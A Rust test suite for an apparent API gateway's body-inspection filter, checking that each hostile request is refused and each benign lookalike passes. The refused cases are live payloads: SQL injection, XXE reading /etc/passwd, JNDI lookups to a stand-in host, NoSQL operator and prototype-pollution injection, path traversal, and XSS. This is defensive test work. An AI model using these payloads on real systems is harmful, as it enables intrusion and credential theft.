//! Every way that a server may read a body is judged, or the body is refused. Beside each attack stands its honest
//! neighbour.

use crate::support::{Recorder, Running, status};

pub(crate) const FORM: &str = "application/x-www-form-urlencoded";
pub(crate) const MULTIPART: &str = "multipart/form-data; boundary=B";

/// Sends bodies: each is refused and does not reach the upstream, or is answered 200.
pub(crate) fn check<B: AsRef<[u8]>>(
    gate: &Running,
    upstream: &Recorder,
    path: &str,
    refused: &[(&str, B)],
    passed: &[(&str, B)],
) {
    for (kind, body) in refused {
        let body = body.as_ref();
        let answer = status(&gate.ask("POST", path, &[("Content-Type", *kind)], body));
        let shown = String::from_utf8_lossy(body);
        assert!((400..500).contains(&answer), "{kind}: {shown} answered {answer}");
        assert_eq!(upstream.take(), "", "{kind}: {shown}");
    }
    for (kind, body) in passed {
        let body = body.as_ref();
        let answer = status(&gate.ask("POST", path, &[("Content-Type", *kind)], body));
        assert_eq!(answer, 200, "{kind}: {}", String::from_utf8_lossy(body));
        upstream.take();
    }
}

#[test]
fn a_content_type_is_read_by_its_grammar() {
    let upstream = Recorder::plain();
    let gate = Running::start("[[route]]\npath = '/old/**'\nother_charsets = 'pass'", &[upstream.url()]);
    let json = &br#"{"a":1}"#[..];
    check::<&[u8]>(
        &gate,
        &upstream,
        "/x",
        &[
            ("application/json; x=\u{e9}", json),
            ("application/x-www-form-urlencoded; x=\u{e9}", b"a=1"),
            ("multipart/form-data, x", json),
            ("application/json; charset=utf-8; charset=utf-16", json),
            ("application/json; charset=utf-16", json),
            ("application/x-www-form-urlencoded; charset=ibm037", b"a=1"),
            ("application/x-www-form-urlencoded; charset=ISO-8859-1", b"a=caf%e9"),
            ("application/json; charset=ISO-8859-1", b"{\"a\":\"caf\xc3\xa9\"}"),
            ("multipart/form-data; boundary=B; charset=cp037", b"--B--\r\n"),
            ("${jndi:ldap://a.example/a}", json),
            ("text/plain", b"{\0\"\0a\0\"\0:\x001\0}\0"),
        ],
        &[
            ("application/json; charset=UTF-8", json),
            ("application/json;charset=utf8;", json),
            ("text/plain; charset=iso-8859-1", b"caf\xe9 & bar"),
            ("application/x-www-form-urlencoded; charset=ISO-8859-1", b"a=b+c%2f"),
            ("application/json; charset=windows-1252", json),
            ("application/vnd.api+json; ext=\"https://a.example/x\"", json),
            ("", b""),
        ],
    );
    assert_eq!(
        status(&gate.ask("POST", "/old/x", &[("Content-Type", "text/xml; charset=utf-16")], b"\xff\xfe<\0")),
        200
    );
}

#[test]
fn a_body_is_judged_as_whatever_a_server_may_take_it_for() {
    let upstream = Recorder::plain();
    let gate = Running::start("", &[upstream.url()]);
    check::<&[u8]>(
        &gate,
        &upstream,
        "/x",
        &[
            (FORM, br#"{"a": 1, "id": "1' && '1'='1"}"#),
            (FORM, br#"{"role":"user","role":"admin"}"#),
            (FORM, br#"{"a":NaN,"q":"1 OR 1=1"}"#),
            (FORM, b"\xef\xbb\xbf{\"q\":\"1 OR 1=1\"}"),
            (FORM, br#"{"q":"1"}x"#),
            (FORM, b"{\0\"\0q\0\"\0"),
            (FORM, b"\xff\xfe<\0a\0"),
            (FORM, b"<a>1&#39; OR &#39;a&#39;=&#39;a</a>"),
            (FORM, b"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
            ("text/plain", b"<!DOCTYPE a><a>1' <![CDATA[UNI]]>ON SELECT password FROM users-- </a>"),
            ("text/plain", b"\xef\xbb\xbf<a>1' <![CDATA[UNI]]>ON SELECT password FROM users-- </a>"),
            ("application/json", br#"[{"a":"1 union/*","b":"*/select password from users"}]"#),
            ("", b"id=1%27+or+%271%27%3D%271"),
            ("", b"id=1%27+or+%271%27%3D%271&z=%ff\xff"),
            ("text/plain", b"<r><name>anna</name><id>1' or '1'='1' -- </id></r>"),
            ("application/octet-stream", br#"{"id": "1' or '1'='1' -- "}"#),
            (FORM, b"id=-1%a0union%a0select%a01,2,3"),
            ("application/json", br#"{"query": "{ product(id: \"1 union select 1,password from users\") { name } }"}"#),
            ("application/graphql", br#"mutation { run(cmd: "cat /etc/passwd") }"#),
            (FORM, b"n={{7*&n=7}}"),
            (FORM, b"user=x%5C&pass=%20or%201%3D1--%20"),
        ],
        &[
            (FORM, br#"{"a": "b & c", "d": "O'Brien"}"#),
            (FORM, b"[name]=Ada"),
            ("text/plain", b"<!doctype html><title>a page</title><br>"),
            ("text/plain", b"{ not: json, just a note }"),
            ("text/xml", b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>Z\xfcrich</a>"),
            ("image/svg+xml", b"<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\"/>"),
            ("video/mp4", b"\0\0\0 ftypisom\0\0\x02\0isomiso2avc1mp41\xff\xfe\0\0\0\x08free"),
            ("", b"name=O%27Brien+%26+sons&city=K%C3%B6ln"),
            ("text/plain", b"<b>bold</b> claims: 1 < 2 and a=b"),
            ("application/octet-stream", br#"{"id": "7"}"#),
            ("application/json", br#"{"query": "query($id: ID!) { product(id: $id, name: \"Anna's\") { name } }", "variables": {"id": 7}}"#),
            (FORM, b"tag=red&tag=new+york&tag=select"),
            (FORM, b"path=C%3A%5C&next=or+not"),
            // A suspicion counts once, in however many readings it is found.
            (FORM, b"path=../shared&path=main"),
            ("application/json", br#"{"path":"../shared","note":"x"}"#),
        ],
    );
}

#[test]
fn all_that_a_part_says_is_judged() {
    let upstream = Recorder::plain();
    let gate = Running::start("[injection]\nexempt = ['note']", &[upstream.url()]);
    let part = |head: &str, content: &str| {
        format!("--B\r\nContent-Disposition: form-data; {head}\r\n\r\n{content}\r\n--B--\r\n").into_bytes()
    };
    let refused = [
        part("name=\"x[$gt]\"", "1"),
        part("name=\"__proto__[isAdmin]\"", "1"),
        part("name=\"note[$ne]\"", "1"),
        part("name=\"${jndi:ldap://a.example/a}\"", "1"),
        part("name=\"f\"; filename=\"../../../etc/passwd\"", "x"),
        part("name=\"f\"; filename=\"a.txt\"\r\nContent-Type: ${jndi:ldap://a.example/a}", "x"),
        part("name=\"f\"\r\nX-Note: ${jndi:ldap://a.example/a}", "x"),
        part("name=\"f\"\r\nContent-Transfer-Encoding: quoted-printable", "=27"),
        part(
            "name=\"user\"; filename=\"blob\"\r\nContent-Type: application/json",
            "{\"password\":{\"$ne\":null}}",
        ),
        part("name=\"user\"; filename=\"blob\"\r\nContent-Type: application/json", "{\"a\":1,\"a\":2}"),
        part("name=\"q\"; x=\"\\\\\"; filename=\"f\"", "1' or '1'='1' -- "),
        part(
            "name=\"f\"; filename=\"blob\"\r\nContent-Type: image/bmp",
            "BM' union select password from users-- ",
        ),
        part(
            "name=\"a\"\r\n\r\n1 union/*\r\n--B\r\nContent-Disposition: form-data; name=\"b\"",
            "*/select password from users",
        ),
        part("name=\"operations\"", "{\"query\":\"{ user(name: \\\"1 OR 1=1\\\") { id } }\"}"),
        part("name=\"text\"; filename=\"blob\"\r\nContent-Type: text/plain", "1' or '1'='1' -- "),
        part("name=\"c\"; filename=\" \"", "<script>alert(1)</script>"),
    ];
    let passed = [
        part(
            "name=\"f\"; filename=\"package.json\"\r\nContent-Type: application/json",
            "{\"test\":\"jest && rm -rf dist\"}",
        ),
        part("name=\"f\"; filename=\"tsconfig.json\"\r\nContent-Type: application/json", "{ // a comment\n}"),
        part("name=\"f\"; filename=\"a.csv\"\r\nContent-Type: text/csv; charset=windows-1252", "a;b"),
        part("name=\"title[0]\"", "O'Brien"),
        part("name=\"note\"", "1' or '1'='1' -- "),
        part(
            "name=\"f\"; filename=\"page.html\"\r\nContent-Type: text/html",
            "<!doctype html><script>start()</script>",
        ),
        part(
            "name=\"f\"; filename=\"dump.sql\"\r\nContent-Type: application/sql",
            "select 1 from users; drop table a;",
        ),
        part("name=\"user\"; filename=\"blob\"\r\nContent-Type: application/json", "{\"name\":\"O'Brien\"}"),
        part("name=\"f\"; filename=\"Anna's list.txt\"\r\nContent-Transfer-Encoding: binary", "x"),
    ];
    let of_parts = |all: Vec<Vec<u8>>| all.into_iter().map(|body| (MULTIPART, body)).collect::<Vec<_>>();
    check(&gate, &upstream, "/x", &of_parts(refused.into()), &of_parts(passed.into()));
}

#[test]
fn a_bound_field_is_the_same_under_every_name_and_in_every_place() {
    let upstream = Recorder::plain();
    let policy = "[[auth.api_key]]\nsubject = 'bob'\nsha256 = '81b637d8fcd2c6da6359e6963113a1170de795e4b725b84d1e0b4cfd9ec58ce9'\n\
        [[route]]\npath = '/save'\nbind = { 'body./user_id' = 'sub' }\n\
        [[route]]\npath = '/list'\nbind = { 'query.user_id' = 'sub' }\n\
        [[route]]\npath = '/named'\nfields = ['name']\nunknown_properties = 'refuse'";
    let gate = Running::start(policy, &[upstream.url()]);
    let ask = |target: &str, kind: &str, body: &str| {
        let headers = [("X-API-Key", "bob"), ("Content-Type", kind)];
        let answer = status(&gate.ask("POST", target, &headers, body.as_bytes()));
        (answer, upstream.take().is_empty())
    };
    for (target, kind, body) in [
        ("/save", FORM, "user.id=alice"),
        ("/save", FORM, "user%20id=alice"),
        ("/save", FORM, "user[id=alice"),
        ("/save", FORM, r#"{"user_id":"alice"}"#),
        ("/save", FORM, "[user_id]=alice"),
        ("/save", FORM, "user_id%00x=alice"),
        ("/save", FORM, "<r><user_id>alice</user_id></r>"),
        ("/save", "application/json", r#"[[{"user_id":"alice"}]]"#),
        ("/list?[user_id]=alice", FORM, ""),
        ("/named", FORM, "name=x&[role]=admin"),
        ("/named", "application/json", r#"[[{"role":"admin"}]]"#),
        ("/save", "", "user_id=alice"),
        ("/save?user_id=alice", "application/json", "{}"),
        ("/save?a=1;user_id=alice", "application/json", "{}"),
        ("/save", "application/json", r#"[{"user_id":"bob"},{"user_id":"alice"}]"#),
        ("/save", "application/json", r#"{"user_id":null}"#),
        ("/list?user_id=bob", FORM, "user_id=alice"),
        ("/list?user_id=bob", "application/json", r#"{"user_id":"alice"}"#),
        ("/list?user.id=alice", FORM, ""),
        ("/named", FORM, r#"{"role":"admin"}"#),
        ("/save", FORM, "user_id]=alice"),
        ("/save", FORM, "[user_id=alice"),
        ("/save", FORM, "user_id[0=alice"),
        ("/save", FORM, "user_id.x=alice"),
        ("/save", FORM, ".user_id=alice"),
        ("/save", FORM, "a=1;user_id=alice"),
        ("/save", FORM, r#"[1,{"user_id":"alice"}]"#),
        ("/save", "", r#"{"a":"&user_id=alice&"}"#),
        ("/list??user_id=alice", FORM, ""),
        ("/list?[user_id.x=alice", FORM, ""),
        ("/save", "application/x-www-form-urlencodedx", "user_id=alice"),
    ] {
        let (answer, is_alone) = ask(target, kind, body);
        assert!((400..500).contains(&answer) && is_alone, "{target} {kind} {body} answered {answer}");
    }
    for (target, kind, body) in [
        ("/save", FORM, "user_id=bob&user=alice"),
        ("/save", "application/json", r#"{"user_id":"bob","owner":null}"#),
        ("/save", "application/json", r#"[{"user_id":"bob"}]"#),
        ("/save?page=1", "application/json", r#"{"user_id":"bob"}"#),
        ("/list?user_id=bob", "application/json", r#"{"user":{"user_id":"x"}}"#),
        ("/named", FORM, "name=Ada"),
        ("/save", FORM, "user_ids=alice&note=a;b"),
        ("/save", "", r#"{"user_id":"bob","note":"a=b&c"}"#),
    ] {
        assert_eq!(ask(target, kind, body).0, 200, "{target} {kind} {body}");
    }
}

#[test]
fn a_refused_stream_is_the_clients_fault_and_not_the_upstreams() {
    let upstream = Recorder::plain();
    let policy = "[[route]]\npath = '/stream'\nbody = 'stream'\n[gateway.health]\nfailures = 1";
    let gate = Running::start(policy, &[upstream.url()]);
    let chunked = |body: &str| {
        let raw = format!(
            "POST /stream HTTP/1.1\r\nHost: a\r\nUser-Agent: t\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\n{body}\r\n0\r\n\r\n",
            body.len()
        );
        status(&gate.raw(raw.as_bytes()))
    };
    for _ in 0..5 {
        assert_eq!(chunked("id=1' OR '1'='1' -- "), 403);
    }
    assert_eq!(chunked("name=O'Brien"), 200, "the upstream does not rest");
    assert!(!gate.events.has(&["upstream", "failed"]));
    for (coding, expected) in [("gzip", 415), ("identity", 200)] {
        let headers = [("Content-Encoding", coding), ("Content-Type", "text/plain")];
        assert_eq!(status(&gate.ask("POST", "/stream", &headers, b"abc")), expected, "{coding}");
    }
}

#[test]
fn a_batch_of_requests_is_read_as_requests() {
    let upstream = Recorder::plain();
    let gate = Running::start("", &[upstream.url()]);
    let batch = |line: &str, fields: &str, body: &str| {
        format!(
            "--B\r\nContent-Type: application/http\r\nContent-ID: <a@b.example>\r\n\r\n{line} HTTP/1.1\r\n{fields}\r\n{body}\r\n--B--\r\n"
        )
    };
    let passed = [
        batch("GET /customers/1", "Host: api.example\r\nAccept: application/json\r\n", ""),
        batch(
            "POST /customers",
            "Content-Type: application/json\r\nContent-Length: 14\r\n",
            "{\"name\":\"Ada\"}",
        ),
    ];
    let refused = [
        batch(
            "POST /customers",
            "Content-Type: application/json\r\n",
            "{\"name\":\"x' UNION SELECT 1,2-- \"}",
        ),
        batch("GET /customers/1", "Host: a\r\nX-Note: ${jndi:ldap://a.example/a}\r\n", ""),
        batch("GET /customers?id=1'/**/UNION/**/SELECT/**/1,2--", "Host: a\r\n", ""),
    ];
    let of_kind = |bodies: &[String]| -> Vec<(&'static str, Vec<u8>)> {
        bodies.iter().map(|body| ("multipart/mixed; boundary=B", body.clone().into_bytes())).collect()
    };
    check(&gate, &upstream, "/$batch", &of_kind(&refused), &of_kind(&passed));
}
